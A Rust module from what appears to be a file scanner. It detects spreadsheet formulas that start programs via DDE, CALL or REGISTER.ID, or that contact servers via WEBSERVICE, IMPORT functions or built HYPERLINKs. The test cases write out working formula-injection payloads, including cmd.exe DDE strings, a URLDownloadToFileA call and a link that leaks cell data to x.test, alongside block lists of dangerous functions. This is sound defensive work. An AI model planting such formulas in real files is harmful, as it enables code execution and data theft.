//! Formulas that act when a sheet is opened or calculated: DDE, calls into libraries, requests to a server.
//!
//! Formulas are read as text in the dialect of their file; string literals are skipped, so that a formula
//! that merely *quotes* a command is not taken for one.

use super::Facts;
use crate::model::{Place, Signal};

/// What a formula can do beyond calculating.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Danger {
    /// Starts a program or calls a library: DDE (`cmd|'/c calc'!A1`, `DDE(…)`), `CALL`, `REGISTER.ID`, `EXEC`, `RTD`.
    Program,
    /// Sends or fetches data over the network: `WEBSERVICE`, `IMPORTXML`…, a `HYPERLINK` built from cells.
    Network,
}

/// Functions that start something outside the workbook.
const PROGRAM: &[&str] = &["DDE", "DDEAUTO", "CALL", "REGISTER", "REGISTER.ID", "EXEC", "RTD", "SHELL"];
/// Functions that reach a server as soon as they are calculated.
const NETWORK: &[&str] = &["WEBSERVICE", "IMPORTXML", "IMPORTDATA", "IMPORTFEED", "IMPORTHTML", "IMPORTRANGE", "IMAGE"];

/// What `formula` can do, the worst first. A leading `=` and prefixes such as `of:` are allowed.
pub fn danger(formula: &str) -> Option<Danger> {
    let skeleton = Skeleton::of(formula);
    if skeleton.has_dde || skeleton.functions.iter().any(|f| PROGRAM.contains(&f.as_str())) {
        return Some(Danger::Program);
    }
    if skeleton.functions.iter().any(|f| NETWORK.contains(&f.as_str())) {
        return Some(Danger::Network);
    }
    let built_link = skeleton.functions.iter().any(|f| f == "HYPERLINK")
        && (skeleton.has_concatenation || skeleton.functions.iter().any(|f| f.starts_with("CONCAT") || f == "TEXTJOIN"))
        && skeleton.literals_name_a_server;
    built_link.then_some(Danger::Network)
}

/// Records what `formula` at `place` can do.
pub fn report(facts: &mut Facts, place: &Place, formula: &str) {
    let signal = match danger(formula) {
        Some(Danger::Program) => Signal::new("sheet-formula-program"),
        Some(Danger::Network) => Signal::new("sheet-formula-network"),
        None => return,
    };
    facts.push(signal.at(place.clone()).arg("formula", formula.chars().take(120).collect::<String>()));
}

/// What is left of a formula once literals are set aside.
#[derive(Debug, Default)]
struct Skeleton {
    functions: Vec<String>,
    has_dde: bool,
    has_concatenation: bool,
    literals_name_a_server: bool,
}

impl Skeleton {
    fn of(formula: &str) -> Self {
        let mut found = Self::default();
        let mut word = String::new();
        let mut chars = formula.chars().peekable();
        let mut braces = 0u32;
        while let Some(c) = chars.next() {
            match c {
                '"' => {
                    let mut literal = String::new();
                    while let Some(c) = chars.next() {
                        if c == '"' {
                            if chars.peek() != Some(&'"') {
                                break;
                            }
                            chars.next();
                        }
                        if literal.len() < 2_000 {
                            literal.push(c.to_ascii_lowercase());
                        }
                    }
                    found.literals_name_a_server |= literal.contains("://") || literal.starts_with("\\\\");
                    word.clear();
                }
                '\'' => {
                    // A quoted sheet or topic name; what follows decides, so only the quotes are skipped.
                    for c in chars.by_ref() {
                        if c == '\'' {
                            break;
                        }
                    }
                    word.clear();
                }
                '{' => braces += 1,
                '}' => braces = braces.saturating_sub(1),
                '(' => {
                    if !word.is_empty() {
                        let name = word.to_ascii_uppercase();
                        // `_xlfn.` and `COM.MICROSOFT.` stand before functions that older programs do not know.
                        let name = name.strip_prefix("_XLFN.").or_else(|| name.strip_prefix("COM.MICROSOFT.")).unwrap_or(&name);
                        if found.functions.len() < 200 {
                            found.functions.push(name.to_owned());
                        }
                        word.clear();
                    }
                }
                '|' if !word.is_empty() && braces == 0 => {
                    // server|topic!item: `|` is no operator, and outside braces it parts no array rows.
                    found.has_dde |= topic_ends(chars.clone());
                    word.clear();
                }
                '&' => {
                    found.has_concatenation = true;
                    word.clear();
                }
                c if c.is_alphanumeric() || c == '.' || c == '_' => {
                    if word.len() < 64 {
                        word.push(c);
                    }
                }
                _ => word.clear(),
            }
        }
        found
    }
}

/// Whether `topic!` follows.
fn topic_ends(mut rest: impl Iterator<Item = char>) -> bool {
    let mut quoted = false;
    for c in rest.by_ref().take(2_000) {
        match c {
            '\'' => quoted = !quoted,
            '!' if !quoted => return true,
            '(' | ')' | '"' | '{' | '}' | '|' | ';' if !quoted => return false,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn dde_in_any_dialect_starts_a_program() {
        for formula in [
            "=cmd|'/c calc'!A1",
            "cmd|'/c calc'!'A0'",
            "-2+3+cmd|' /C notepad'!'A1'",
            "=1+MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "of:=DDE(\"soffice\";\"a.ods\";\"Sheet1.A1\")",
            "DDE (\"cmd\",\"/c calc\",\"x\")".replace(' ', "").as_str(),
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)",
            "REGISTER.ID(\"kernel32\",\"WinExec\")",
        ] {
            assert_eq!(danger(formula), Some(Danger::Program), "{formula}");
        }
    }

    #[test]
    fn requests_and_built_links_reach_the_network() {
        for formula in [
            "=WEBSERVICE(\"https://x.test/?\"&A1)",
            "_xlfn.WEBSERVICE(A1)",
            "HYPERLINK(\"https://x.test/?leak=\"&A1,\"Cliquez\")",
            "=IMPORTXML(A1,A2)",
        ] {
            assert_eq!(danger(formula), Some(Danger::Network), "{formula}");
        }
    }

    #[test]
    fn ordinary_formulas_are_left_alone() {
        for formula in [
            "SUM(A1:A9)",
            "IF(A1=\"cmd|'/c calc'!A1\",1,2)",
            "'a|b'!A1",
            "of:=SUM([.A1:.A2])",
            "={1;2|3;4}",
            "of:=SUM({1;2|3;4}+[$Feuil1.A1])",
            "HYPERLINK(\"https://esante.gouv.fr\",\"ANS\")",
            "HYPERLINK(\"#Feuil2!A\"&ROW(),\"voir\")",
            "=CALLBACKS(1)",
            "[1]Feuil1!$A$1",
            "A1&\"|\"&B1!C1",
        ] {
            assert_eq!(danger(formula), None, "{formula}");
        }
    }

    proptest! {
        #[test]
        fn any_text_can_be_looked_at(formula in "[=a-zA-Z|!'\"(){}&;. é]{0,80}") {
            let _ = danger(&formula);
        }
    }
}
